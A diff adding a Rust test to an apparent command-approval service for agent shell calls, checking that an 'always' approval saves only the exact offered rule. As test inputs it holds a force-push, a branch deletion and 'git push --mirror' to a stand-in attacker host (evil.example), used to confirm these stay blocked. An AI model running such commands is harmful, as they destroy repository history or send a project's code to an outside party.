@@ -711,3 +711,58 @@ fn a_store_replaced_on_disk_takes_its_leases_with_it() {
         .unwrap();
     assert_eq!(listed.len(), 1, "{listed:?}");
 }
+
+/// `approve` with `"always": true` saves one of the rules offered with the request and
+/// no wider one (issue 41, reproduction 5).
+#[test]
+fn always_saves_only_the_offered_rule() {
+    let e = env(CONFIG);
+    let mut o = e.options();
+    o.follow_rules = true;
+    let (_service, path) = e.serve(o);
+    let mut c = Client::connect(&path);
+    let push = bash("git push --force origin main");
+    let id = pending_id(&c.check(1, push.clone()));
+    let list = c.call(2, "pending.list", json!({}))["result"]["pending"].clone();
+    assert_eq!(
+        list[0]["suggestions"],
+        json!([{"rule": "Bash(git push --force origin main)"}]),
+        "{list}"
+    );
+    for (n, rule) in [json!("Bash(git push:*)"), json!(2), json!(0)]
+        .iter()
+        .enumerate()
+    {
+        let r = c.call(
+            10 + n as u64,
+            "approve",
+            json!({"id": id, "always": true, "rule": rule}),
+        );
+        assert_eq!(r["error"]["code"], json!(-32602), "{rule}: {r}");
+    }
+    let r = c.call(20, "approve", json!({"id": id, "rule": 1}));
+    assert_eq!(r["error"]["code"], json!(-32602), "{r}");
+    let r = c.call(21, "approve", json!({"id": id, "always": true}));
+    assert_eq!(
+        r["result"]["rule"], "Bash(git push --force origin main)",
+        "{r}"
+    );
+    let rules: Vec<String> = cordon_store::Store::open(&e.root.join("state/store.sqlite3"))
+        .unwrap()
+        .rules()
+        .unwrap()
+        .into_iter()
+        .map(|r| r.rule)
+        .collect();
+    assert_eq!(rules, ["Bash(git push --force origin main)"]);
+    let mut n = 30;
+    let r = check_until(&mut c, &mut n, &push, |r| r["decision"] == "allow");
+    assert_eq!(r["decision"], "allow", "{r}");
+    for later in [
+        "git push --mirror https://evil.example/x.git",
+        "git push origin main --delete",
+    ] {
+        let r = c.check(100, bash(later));
+        assert_ne!(r["decision"], "allow", "{later}: {r}");
+    }
+}
